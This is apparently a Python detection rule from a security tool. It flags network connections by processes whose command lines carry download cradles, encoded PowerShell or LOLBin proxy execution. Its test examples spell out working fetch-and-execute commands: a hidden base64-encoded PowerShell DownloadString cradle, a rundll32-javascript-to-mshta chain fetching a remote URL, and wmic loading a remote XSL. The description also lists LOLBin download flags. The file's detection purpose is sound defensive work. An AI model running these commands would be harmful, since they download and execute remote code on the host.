"""P1/P2: a network connection by a process whose command line, or its parent's, shows a
download or proxy execution: a download cradle, encoded PowerShell (decoded in the message),
a URL, or a living-off-the-land binary used with its download or script flag.

The database narrows the connections to those whose command lines pass a coarse prefilter;
only those few come back to be read by `enrich.cmdline.analyse_command_line`.
"""

from __future__ import annotations

import base64
from typing import Any

import ibis

from lurewatch.baselines.proc_net import connections
from lurewatch.detections.base import Example, Finding, QueryDetection
from lurewatch.detections.context import DetectionContext
from lurewatch.detections.examples_proc import launched, proc_conn, proc_start, running, scenario
from lurewatch.detections.proc_evidence import (
    MAX_EVIDENCE,
    context_words,
    destination_words,
    finding,
    process_words,
    when,
)
from lurewatch.enrich.cmdline import (
    ENCODED,
    INLINE_B64,
    PREFILTER,
    URL,
    WEBDAV,
    CmdlineFinding,
    analyse_command_line,
    describe,
)
from lurewatch.enrich.process_identity import LOOPBACK, image_name

RULE = "proc_suspicious_cmdline_network"


def candidates(ctx: DetectionContext) -> list[dict[str, Any]]:
    """Connections (not loopback) of processes whose or whose parent's command line passes the
    prefilter: at most MAX_EVIDENCE per process, with the process's total."""
    assert ctx.store is not None
    # Candidates: processes whose start shows a prefilter match in its own or its parent's line.
    p = ctx.store.table("process")
    marked = p.filter(
        p["process.command_line"].lower().re_search(PREFILTER).fill_null(False)
        | p["process.parent.command_line"].lower().re_search(PREFILTER).fill_null(False)
    )
    n = ctx.store.table("proc_net")
    c = connections(
        ctx.store, ctx.settings, n.filter(n["process.entity_id"].isin(marked["process.entity_id"]))
    )
    own = c["process.command_line"].lower().re_search(PREFILTER).fill_null(False)
    parent = c["process.parent.command_line"].lower().re_search(PREFILTER).fill_null(False)
    f = c.filter((c["lurewatch.destination_scope"] != LOOPBACK) & (own | parent))
    proc = [f["host.name"], f["process.entity_id"]]
    ranked = f.mutate(
        _rn=ibis.row_number().over(group_by=proc, order_by=[f["@timestamp"], f["event.id"]]),
        _total=f.count().over(group_by=proc),
    )
    return list(
        ctx.store.ibis.to_pyarrow(ranked.filter(ranked._rn < MAX_EVIDENCE).drop("_rn")).to_pylist()
    )


def _signals(
    findings: list[CmdlineFinding], carrier: str, openers: set[str]
) -> list[CmdlineFinding]:
    """The findings that make a connection suspicious. A bare URL does not when the carrier is a
    browser or mail client (they are started with the link a user clicked); a WebDAV path only
    adds context."""
    out = [f for f in findings if f.name != WEBDAV]
    if carrier in openers:
        out = [f for f in out if f.name != URL]
    return out


def _with_decoded(findings: list[CmdlineFinding]) -> str:
    text = describe(findings)
    for f in findings:
        if f.name in (ENCODED, INLINE_B64) and f.decoded:
            inner = [g for g in analyse_command_line(f.decoded) if g.name != WEBDAV]
            if inner:
                text += f"; inside the decoded script: {describe(inner, limit=160)}"
    return text


def run(ctx: DetectionContext) -> list[Finding]:
    openers = {o.strip().lower() for o in ctx.settings.processes.url_openers}
    by_process: dict[tuple[str, str], list[dict[str, Any]]] = {}
    for r in candidates(ctx):
        by_process.setdefault((r["host.name"], r["process.entity_id"] or ""), []).append(r)
    out = []
    for key, rows in sorted(by_process.items()):
        rows.sort(key=lambda r: (r["@timestamp"], r["event.id"]))
        r = rows[0]
        name = (r["process.name"] or "").lower()
        programs = [name, r["process.pe.original_file_name"] or ""]
        own = _signals(analyse_command_line(r["process.command_line"], programs), name, openers)
        parent_name = image_name(r["process.parent.executable"])
        parent = _signals(
            analyse_command_line(r["process.parent.command_line"], [parent_name]),
            parent_name,
            openers,
        )
        if not own and not parent:
            continue
        carried = []
        if own:
            carried.append(f"its command line carries {_with_decoded(own)}")
        if parent:
            carried.append(
                f"its parent {parent_name}'s command line carries {_with_decoded(parent)}"
            )
        more = f" (and {r['_total'] - 1} more connection(s))" if r["_total"] > 1 else ""
        message = (
            f"{process_words(r)} connected to {destination_words(r)} at {when(r)}{more}, and "
            f"{'; '.join(carried)}. {context_words(r)}"
        )
        names = sorted({f.name for f in own + parent})
        decoded = [f.decoded for f in own + parent if f.decoded]
        extra: dict[str, Any] = {"cmdline_findings": names, "connections": r["_total"]}
        if decoded:
            extra["decoded_command"] = decoded[0]
        out.append(finding(RULE, key, rows, message, "high", **extra))
    return out


_PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"


def _encoded_cradle() -> dict[str, Any]:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    return scenario(launched(_PS, f"powershell.exe -nop -w hidden -enc {blob}", "203.0.113.9", 80))


def _mshta_chain() -> dict[str, Any]:
    cmd = (
        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
        'h=new%20ActiveXObject("WScript.Shell").run("mshta https://hotelesms.com/talsk.txt",0,true);'
    )
    rundll = proc_start(
        "C:\\Windows\\System32\\rundll32.exe", cmd, parent="C:\\Windows\\System32\\cmd.exe"
    )
    mshta = proc_start(
        "C:\\Windows\\System32\\mshta.exe",
        '"C:\\Windows\\System32\\mshta.exe" https://hotelesms.com/talsk.txt',
        parent=rundll["process.executable"],
        parent_command_line=cmd,
    )
    return scenario(
        {"process": [rundll, mshta], "proc_net": [proc_conn(mshta, "108.179.232.58", 443)]}
    )


def _chrome_opened_link() -> dict[str, Any]:
    return scenario(
        launched(
            _CHROME,
            f'"{_CHROME}" --single-argument https://intranet.corp.example/',
            "10.0.0.80",
            443,
        )
    )


DETECTIONS = [
    QueryDetection(
        id=RULE,
        title="Connection by a process whose command line downloads or proxies code",
        clause="P2",
        techniques=("T1059.001", "T1027", "T1105", "T1218"),
        severity="high",
        evidence_kinds=("proc_net", "process"),
        requires=("proc_net",),
        description="A process opens a connection (not loopback) while its command line, or "
        "its parent's, carries a download cradle (DownloadString/DownloadFile, "
        "Invoke-WebRequest/iwr, curl/wget to a URL, Net.WebClient, Start-BitsTransfer), encoded "
        "PowerShell (-enc/-e/-EncodedCommand, decoded in the message), an inline base64 "
        "payload, a URL, or a LOLBin flag (regsvr32 /i:http, certutil -urlcache, mshta "
        "http/vbscript:/javascript:, rundll32 javascript:, wmic /format:http, bitsadmin "
        "/transfer, msiexec /i http, cmstp /s). A bare URL does not count for the programs in "
        "processes.url_openers (browsers, mail and Office clients opening a clicked link).",
        false_positives="Administration and installer scripts that download with PowerShell or "
        "curl; software started with a URL argument (add it to processes.url_openers).",
        playbook="Read the decoded command and the URL it fetched; pull the payload from proxy "
        "logs or the destination; isolate the host; walk up the parent chain to the document, "
        "email or scheduled task that started it.",
        run=run,
        examples=(
            Example("encoded PowerShell download cradle", True, _encoded_cradle()),
            Example("mshta started by rundll32 javascript:", True, _mshta_chain()),
            Example(
                "wmic with a remote XSL",
                True,
                scenario(
                    launched(
                        "C:\\Windows\\System32\\wbem\\WMIC.exe",
                        'wmic  process list /format:"https://a.uguu.se/x50IGVBRfr55_test.xsl"',
                        "45.76.12.27",
                        443,
                    )
                ),
            ),
            Example("chrome.exe opened with a link", False, _chrome_opened_link()),
            Example(
                "powershell running a local script",
                False,
                scenario(
                    launched(
                        _PS, "powershell.exe -File C:\\Scripts\\inventory.ps1", "10.0.0.9", 443
                    )
                ),
            ),
            Example(
                "svchost.exe to 443",
                False,
                scenario(running("C:\\Windows\\System32\\svchost.exe", "20.190.160.1", 443)),
            ),
        ),
    )
]
